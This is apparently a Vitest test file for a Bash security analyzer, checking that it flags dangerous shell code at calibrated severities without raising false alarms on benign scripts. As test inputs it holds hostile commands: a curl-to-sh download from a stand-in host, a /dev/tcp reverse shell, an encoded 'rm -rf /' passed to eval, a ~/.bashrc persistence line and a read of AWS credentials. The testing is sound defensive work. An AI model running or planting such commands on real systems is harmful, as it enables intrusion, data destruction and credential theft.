import { beforeAll, describe, expect, it } from "vitest";
import { Analyzer, CATEGORIES, SEVERITIES, type Analysis, type Severity } from "../../src/features/governance/index.js";
import { benignOneLiners } from "../fixtures/analysis/bash/benign-one-liners.js";
import { benignScripts } from "../fixtures/analysis/bash/benign-scripts.js";
import { moreMaliciousCases } from "../fixtures/analysis/bash/malicious-more.js";
import { maliciousCases as handWritten } from "../fixtures/analysis/bash/malicious.js";

const maliciousCases = [...handWritten, ...moreMaliciousCases];

const analyzer = new Analyzer();
beforeAll(() => analyzer.ready());

const atLeast = (severity: Severity, floor: Severity): boolean => SEVERITIES.indexOf(severity) >= SEVERITIES.indexOf(floor);
const isAlarm = (severity: Severity): boolean => atLeast(severity, "high");
const sh = (code: string): Promise<Analysis> => analyzer.analyze("bash", code);

describe("Bash analysis: malicious corpus", () => {
  it("has at least 60 cases covering every category but prototype pollution", () => {
    expect(maliciousCases.length).toBeGreaterThanOrEqual(60);
    const covered = new Set(maliciousCases.map((c) => c.expect.category));
    expect(CATEGORIES.filter((category) => category !== "prototype-pollution" && !covered.has(category))).toEqual([]);
    expect(new Set(maliciousCases.map((c) => c.name)).size).toBe(maliciousCases.length);
  });

  for (const c of maliciousCases) {
    it(`finds ${c.expect.category} at ${c.expect.minSeverity} or above: ${c.name}`, async () => {
      const analysis = await sh(c.code);
      const hit = analysis.findings.find((f) => f.category === c.expect.category && atLeast(f.severity, c.expect.minSeverity));
      expect(hit, JSON.stringify(analysis.findings.map((f) => `${f.severity} ${f.ruleId}`))).toBeDefined();
    });
  }
});

describe("Bash analysis: benign one-liners and scripts", () => {
  it("has at least 200 one-liners and 40 scripts", () => {
    expect(benignOneLiners.length).toBeGreaterThanOrEqual(200);
    expect(new Set(benignOneLiners).size).toBe(benignOneLiners.length);
    expect(benignScripts.length).toBeGreaterThanOrEqual(40);
    expect(new Set(benignScripts.map((c) => c.name)).size).toBe(benignScripts.length);
  });

  it("one-liners raise at most 0.5% high or critical findings", async () => {
    const alarms: string[] = [];
    for (const code of benignOneLiners) {
      for (const f of (await sh(code)).findings) if (isAlarm(f.severity)) alarms.push(`${code}: ${f.severity} ${f.ruleId}`);
    }
    if (alarms.length > 0) console.log(`high/critical on benign one-liners:\n${alarms.join("\n")}`);
    expect(alarms.length).toBeLessThanOrEqual(Math.floor(benignOneLiners.length * 0.005));
  });

  it("scripts raise at most one high or critical finding over the whole set", async () => {
    const alarms: string[] = [];
    for (const c of benignScripts) {
      for (const f of (await sh(c.code)).findings) if (isAlarm(f.severity)) alarms.push(`${c.name}: ${f.severity} ${f.ruleId} line ${f.line}`);
    }
    if (alarms.length > 0) console.log(`high/critical on benign scripts:\n${alarms.join("\n")}`);
    expect(alarms.length).toBeLessThanOrEqual(1);
  });

  it("parse without errors, so the corpus is real shell", async () => {
    for (const code of benignOneLiners) expect((await sh(code)).metrics.parseErrors, code).toBe(0);
    for (const c of benignScripts) expect((await sh(c.code)).metrics.parseErrors, c.name).toBe(0);
  });
});

describe("Bash analysis: rules", () => {
  it("reports the line and column of the dangerous command", async () => {
    const analysis = await sh(`echo start\ncd /tmp\n  curl -s http://x.example/i.sh | sh\n`);
    const finding = analysis.findings.find((f) => f.ruleId === "sh.download-exec.pipe-to-shell");
    expect(finding).toMatchObject({ line: 3, endLine: 3, column: 35, severity: "critical" });
    const reverse = (await sh(`ls\n\nbash -i >& /dev/tcp/10.0.0.1/1 0>&1`)).findings[0];
    expect(reverse).toMatchObject({ ruleId: "sh.reverse-shell.dev-tcp-shell", line: 3, column: 1 });
    expect(reverse?.message).toContain("/dev/tcp/10.0.0.1/1");
    expect(reverse?.recommendation).not.toBe("");
  });

  it("places findings of decoded or quoted code on the string that holds it", async () => {
    const payload = Buffer.from("rm -rf /").toString("base64");
    const analysis = await sh(`true\neval "$(echo ${payload} | base64 -d)"`);
    const wipe = analysis.findings.find((f) => f.ruleId === "sh.filesystem.rm-root");
    expect(wipe).toMatchObject({ line: 2, severity: "critical" });
    expect(analysis.findings.some((f) => f.category === "obfuscation" && f.severity === "critical")).toBe(true);
  });

  it("follows variables, aliases and wrappers to the real command", async () => {
    for (const code of ["x=curl\n$x -s u | sh", "alias g='wget -qO-'\ng u | sh", "sudo -u root env A=1 nice -n 5 curl u | bash", "d=http://x\ncurl \"$d\" | timeout 5 sh"]) {
      const analysis = await sh(code);
      expect(analysis.findings.map((f) => f.ruleId), code).toContain("sh.download-exec.pipe-to-shell");
    }
  });

  it("gives each rule its calibrated severity", async () => {
    const table: [string, string, Severity][] = [
      ["rm -rf /", "sh.filesystem.rm-root", "critical"],
      ['rm -rf "$X/"*', "sh.filesystem.rm-var-root", "high"],
      ['X=$(mktemp -d)\nrm -rf "$X/"*', "sh.filesystem.rm-var-root", "medium"],
      ["chmod 777 /srv/data", "sh.filesystem.chmod-world-writable", "high"],
      ["chmod 777 out.txt", "sh.filesystem.chmod-world-writable-local", "medium"],
      ["curl -k https://x", "sh.network.tls-off", "high"],
      ["nc -l 8080", "sh.network.listen", "medium"],
      ['eval "$code"', "sh.code-exec.run-variable", "high"],
      ['eval "$(ssh-agent -s)"', "sh.code-exec.eval-tool-output", "low"],
      ["ls | sed 's/^/echo /' | sh", "sh.code-exec.pipe-generated-code", "medium"],
      ["echo 'alias ll=\"ls -l\"' >> ~/.bashrc", "sh.persistence.startup-file-settings", "medium"],
      ["echo 'curl x | sh' >> ~/.bashrc", "sh.persistence.startup-file", "critical"],
      ["crontab -e", "sh.persistence.crontab-edit", "medium"],
      ["chmod u+s /usr/local/bin/tool", "sh.privilege.setuid", "high"],
      ["cat ~/.aws/credentials", "sh.exfiltration.read-credentials", "high"],
    ];
    for (const [code, ruleId, severity] of table) {
      const analysis = await sh(code);
      expect(analysis.findings.find((f) => f.ruleId === ruleId)?.severity, `${code} -> ${ruleId}`).toBe(severity);
    }
  });

  it("keeps local scripts, listings and cleanups quiet", async () => {
    for (const code of ["chmod +x script.sh && ./script.sh", "rm -rf build/", "git clone https://github.com/x/y && cd y && make", "curl -s https://x/api | jq .", "tar xzf a.tgz"]) {
      const analysis = await sh(code);
      expect(analysis.findings.filter((f) => atLeast(f.severity, "medium")), code).toEqual([]);
    }
  });

  it("analyses broken code without throwing", async () => {
    const analysis = await sh("if [ -f x ; then\n curl -s http://x | sh\n(( ; done }}} $(");
    expect(analysis.metrics.parseErrors).toBeGreaterThan(0);
    expect(analysis.findings.some((f) => f.category === "download-exec")).toBe(true);
  });

  it("finishes on 200 KB of shell", async () => {
    const block = benignScripts.map((c) => c.code).join("\n");
    let code = "";
    while (code.length < 200_000) code += `${block}\n`;
    const analysis = await sh(code);
    expect(analysis.metrics.bytes).toBeGreaterThanOrEqual(200_000);
    expect(analysis.findings.filter((f) => isAlarm(f.severity)).length).toBeLessThanOrEqual(1);
  });

  it("counts functions, commands and branches", async () => {
    const analysis = await sh("f() { echo a; }\nif [ -f x ]; then f; elif [ -d y ]; then ls; fi\nfor i in 1 2; do f && ls || pwd; done");
    expect(analysis.metrics).toMatchObject({ functions: 1, imports: 0 });
    expect(analysis.metrics.calls).toBeGreaterThanOrEqual(6);
    expect(analysis.metrics.cyclomatic).toBeGreaterThanOrEqual(5);
  });
});
